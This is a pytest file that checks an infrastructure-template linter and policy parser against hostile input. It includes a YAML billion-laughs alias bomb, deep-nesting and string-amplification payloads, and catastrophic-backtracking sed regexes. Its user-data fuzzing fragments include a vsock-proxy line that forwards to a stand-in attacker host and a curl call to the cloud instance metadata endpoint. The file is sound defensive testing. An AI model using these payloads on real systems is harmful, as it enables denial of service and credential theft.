"""Hostile input to the linter and the policy parser (issue 8, item 6): alias bombs, deep
nesting and intrinsic amplification end in one line and exit 2, never a hang, a memory blow-up
or a traceback; hypothesis fuzzing shows the parsers raise only our errors, in bounded memory."""

from __future__ import annotations

import json
import resource
import subprocess
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from enclavekit.errors import PolicyDocumentError, TemplateError
from enclavekit.lint import lint_templates, parse_template
from enclavekit.policy import parse_policy

# Address-space cap of the CLI runs: the unfixed linter needed 2.5 GB for the alias bomb.
_MEMORY_CAP = 1536 * 1024 * 1024
# A hang guard, not a speed claim: the fixed linter answers in well under a second.
_HANG_GUARD_S = 120
# Bounded memory for one parser call on fuzzed input of a few KiB.
_PEAK_BYTES = 64 * 1024 * 1024


def _billion_laughs() -> str:
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
    body = "\n      ".join(lines)
    return f"Resources:\n  Role:\n    Type: AWS::IAM::Role\n    Properties:\n      {body}\n"


def _alias_chain(n: int) -> str:
    """Each anchor nests the previous one: shallow text, deep once expanded."""
    body = "".join(f"      a{i}: &a{i} [*a{i - 1}]\n" for i in range(1, n))
    return f"Resources:\n  X:\n    Type: A::B::C\n    Properties:\n      a0: &a0 [x]\n{body}"


def _amplifier() -> str:
    """Fn::Sub repeating a 4 KB parameter: 2.4 MB of text asking for 2.4 GB of strings."""
    resources = {
        f"R{i}": {"Type": "AWS::IAM::Role", "Properties": {"Path": {"Fn::Sub": "${P}" * 2000}}}
        for i in range(300)
    }
    return json.dumps(
        {"Parameters": {"P": {"Type": "String", "Default": "x" * 4000}}, "Resources": resources}
    )


HOSTILE = {
    "billion-laughs.yaml": (_billion_laughs(), "alias bomb"),
    "deep-200k.json": ('{"Resources": ' + "[" * 200_000 + "]" * 200_000 + "}", "100 levels"),
    "deep-5k.yaml": ("Resources: " + "[" * 5000 + "]" * 5000 + "\n", "100 levels"),
    "deep-block.yaml": (
        "Resources:\n" + "".join(" " * i + f"k{i}:\n" for i in range(1, 1500)),
        "100 levels",
    ),
    "alias-chain.yaml": (_alias_chain(400), "once YAML aliases are expanded"),
    "recursive-alias.yaml": ("Resources: &r\n  X: *r\n", "recursive YAML alias"),
    "amplify.json": (_amplifier(), "amplification"),
    "big-int.yaml": (
        "Resources:\n  X:\n    Type: A::B::C\n    Properties: {N: !!int " + "9" * 5000 + "}\n",
        "YAML value error",
    ),
}


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (_MEMORY_CAP, _MEMORY_CAP))


@pytest.mark.slow
def test_hostile_templates_end_in_one_line_and_exit_2(tmp_path: Path) -> None:
    """Every hostile file through the real CLI, each run capped at 1.5 GB of address space."""
    for name, (text, words) in HOSTILE.items():
        path = tmp_path / name
        path.write_text(text)
        proc = subprocess.run(
            [str(Path(sys.executable).parent / "enclavekit"), "lint", str(path)],
            capture_output=True,
            text=True,
            timeout=_HANG_GUARD_S,
            preexec_fn=_limit_memory,
        )
        err = proc.stderr.strip()
        assert proc.returncode == 2, (name, proc.returncode, err[-500:])
        assert "\n" not in err and "Traceback" not in err, (name, err[-500:])
        assert err.startswith(f"enclavekit: error: {path}:") and words in err, (name, err)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_templates_raise_template_error_in_bounded_memory(name: str) -> None:
    text, words = HOSTILE[name]
    tracemalloc.start()
    try:
        with pytest.raises(TemplateError, match=words) as info:
            lint_templates([parse_template(text, Path(name))])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "\n" not in str(info.value)
    assert peak < _PEAK_BYTES + 4 * len(text), peak


def test_legitimate_aliases_and_cycles_still_lint() -> None:
    """Anchors used the ordinary way pass; Ref cycles between resources end as tokens."""
    text = (
        "Resources:\n  A:\n    Type: AWS::IAM::Role\n    Properties:\n      RoleName: !Ref B\n"
        "      Tags: &tags [{Key: team, Value: x}]\n  B:\n    Type: AWS::IAM::Role\n"
        "    Properties:\n      RoleName: !Ref A\n      Tags: *tags\n"
        "Conditions:\n" + "".join(f"  C{i}: !Condition C{i + 1}\n" for i in range(3000))
    )
    tpl = parse_template(text, Path("ok.yaml"))
    assert lint_templates([tpl]).findings == ()


def test_policy_parser_refuses_deep_json_and_bounds_its_messages() -> None:
    with pytest.raises(PolicyDocumentError, match="nested more than 100 levels") as info:
        parse_policy('{"Statement": ' + "[" * 200_000 + "]" * 200_000 + "}")
    assert "\n" not in str(info.value)
    deep: Any = "x"
    for _ in range(50_000):
        deep = [deep]
    with pytest.raises(PolicyDocumentError) as info:
        parse_policy({"Statement": [{"Effect": "Allow", "Action": deep}]})
    assert len(str(info.value)) < 400
    with pytest.raises(PolicyDocumentError, match="operator names"):
        parse_policy(
            {"Statement": {"Effect": "Allow", "Action": "s3:*", "Condition": {1: {"a": "b"}}}}
        )


# ------------------------------------------------------------------------------- fuzzing
_SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=12)
)
_JSONISH = st.recursive(
    _SCALARS,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(
            st.one_of(st.text(max_size=10), st.integers(), st.booleans()), inner, max_size=4
        ),
    ),
    max_leaves=30,
)
_NAMES = st.sampled_from(
    [
        "Statement",
        "Effect",
        "Allow",
        "Deny",
        "Action",
        "NotAction",
        "Resource",
        "Principal",
        "NotPrincipal",
        "Condition",
        "StringEquals",
        "ForAnyValue:StringLike",
        "AWS",
        "*",
        "kms:Decrypt",
        "kms:RecipientAttestation:PCR0",
        "Version",
        "2012-10-17",
        "Sid",
        "Null",
        "Ref",
        "Fn::GetAtt",
        "Fn::Sub",
        "Fn::Join",
        "Fn::If",
        "Fn::Select",
        "Fn::Split",
        "Fn::FindInMap",
        "Fn::ToJsonString",
        "Condition",
        "Fn::Not",
        "Fn::Equals",
    ]
)
_POLICYISH = st.recursive(
    st.one_of(_SCALARS, _NAMES),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(_NAMES, inner, max_size=5)
    ),
    max_leaves=40,
)
_FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _bounded(fn: Any, *args: Any) -> None:
    tracemalloc.start()
    try:
        fn(*args)
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert peak < _PEAK_BYTES, peak


@_FUZZ
@given(_POLICYISH)
def test_fuzz_policy_documents_raise_only_policy_errors(doc: Any) -> None:
    for form in (doc, json.dumps(doc)):
        try:
            _bounded(parse_policy, form)
        except PolicyDocumentError as exc:
            assert "\n" not in str(exc)


@_FUZZ
@given(st.text(max_size=300))
def test_fuzz_template_text_raises_only_template_errors(text: str) -> None:
    try:
        _bounded(parse_template, text, Path("fuzz.yaml"))
    except TemplateError as exc:
        assert "\n" not in str(exc)


_RTYPES = st.sampled_from(
    [
        "AWS::IAM::Role",
        "AWS::IAM::Policy",
        "AWS::IAM::InstanceProfile",
        "AWS::KMS::Key",
        "AWS::EC2::Instance",
        "AWS::EC2::LaunchTemplate",
        "AWS::EC2::EnclaveCertificateIamRoleAssociation",
        "AWS::IAM::ManagedPolicy",
    ]
)
_PROPS = st.sampled_from(
    [
        "RoleName",
        "Path",
        "Policies",
        "PolicyDocument",
        "Roles",
        "KeyPolicy",
        "InstanceType",
        "EnclaveOptions",
        "IamInstanceProfile",
        "UserData",
        "LaunchTemplate",
        "LaunchTemplateData",
        "MetadataOptions",
        "RoleArn",
        "ManagedPolicyArns",
    ]
)


@_FUZZ
@given(
    st.dictionaries(
        st.sampled_from(["A", "B", "Host", "Key", "Role"]),
        st.fixed_dictionaries(
            {"Type": _RTYPES, "Properties": st.dictionaries(_PROPS, _POLICYISH, max_size=4)}
        ),
        min_size=1,
        max_size=4,
    ),
    st.sampled_from(["json", "yaml"]),
)
def test_fuzz_whole_lint_runs_raise_only_our_errors(resources: dict, fmt: str) -> None:
    """Template-shaped noise through parsing, resolving, the world model and every rule."""
    body = {"Resources": resources}
    text = json.dumps(body) if fmt == "json" else yaml.safe_dump(body)

    def run() -> None:
        lint_templates([parse_template(text, Path(f"fuzz.{fmt}"))])

    try:
        _bounded(run)
    except TemplateError as exc:
        assert "\n" not in str(exc)


_UD_PIECES = st.sampled_from(
    [
        "#!/bin/bash\n",
        "#cloud-config\n",
        "Content-Type: multipart/mixed; boundary=B\n",
        "--B\n",
        "MIME-Version: 1.0\n",
        "cat > /etc/nitro_enclaves/allocator.yaml <<'EOT'\n",
        "EOT\n",
        "memory_mib: 99999999999999999999\n",
        "cpu_pool: 0-99999999,a-b,\n",
        "cpu_count: x\n",
        "nitro-cli run-enclave --memory --cpu-count=2 --debug-mode \\\n",
        "nitro-cli run-enclave --config /c.json\n",
        "cat > /c.json <<EOT\n",
        '{"debug_mode": true, "memory_mib": [1]}\n',
        "sed -i 's/a*/&&/g' /etc/nitro_enclaves/allocator.yaml\n",
        "vsock-proxy 8000 evil.example 443\n",
        "curl http://169.254.169.254/latest/meta-data/\n",
        "write_files:\n- path: /x\n",
        "  content: [1]\nruncmd:\n- [nitro-cli, run-enclave, --debug-mode]\n",
        "'\"\\\n",
        "tokens:\n- source: {Acm: {certificate_arn: 7}}\n",
        "x: !!int " + "9" * 5000 + "\n",
        "<<-EOT\n\tEOT\n",
        "\t",
    ]
)


@_FUZZ
@given(st.lists(st.one_of(_UD_PIECES, st.text(max_size=20)), max_size=25))
def test_fuzz_user_data_never_raises(pieces: list[str]) -> None:
    from enclavekit.lint.userdata import ACM_CONFIG, parse_user_data

    def run() -> None:
        ud = parse_user_data("".join(pieces), "fuzz")
        ud.allocator("fuzz")
        ud.yaml_file(ACM_CONFIG, "fuzz")

    _bounded(run)


def test_user_data_sed_patterns_cannot_backtrack_for_ever() -> None:
    """A template's `sed -i` pattern is applied only when simple: these would take ages."""
    from enclavekit.lint.userdata import parse_user_data

    long_line = "memory_mib: " + "a" * 5000 + "\n"
    text = (
        "cat > /etc/nitro_enclaves/allocator.yaml <<'EOT'\n" + long_line + "cpu_count: 2\nEOT\n"
        "sed -i 's/(a+)+$/x/' /etc/nitro_enclaves/allocator.yaml\n"
        "sed -i 's/.*.*.*.*.*.*.*b/x/' /etc/nitro_enclaves/allocator.yaml\n"
        "sed -i 's/cpu_count: .*/cpu_count: 4/' /etc/nitro_enclaves/allocator.yaml\n"
    )
    ud = parse_user_data(text, "t")
    assert ud.allocator("t")[0] == 4  # the simple edit applied, the hostile ones skipped
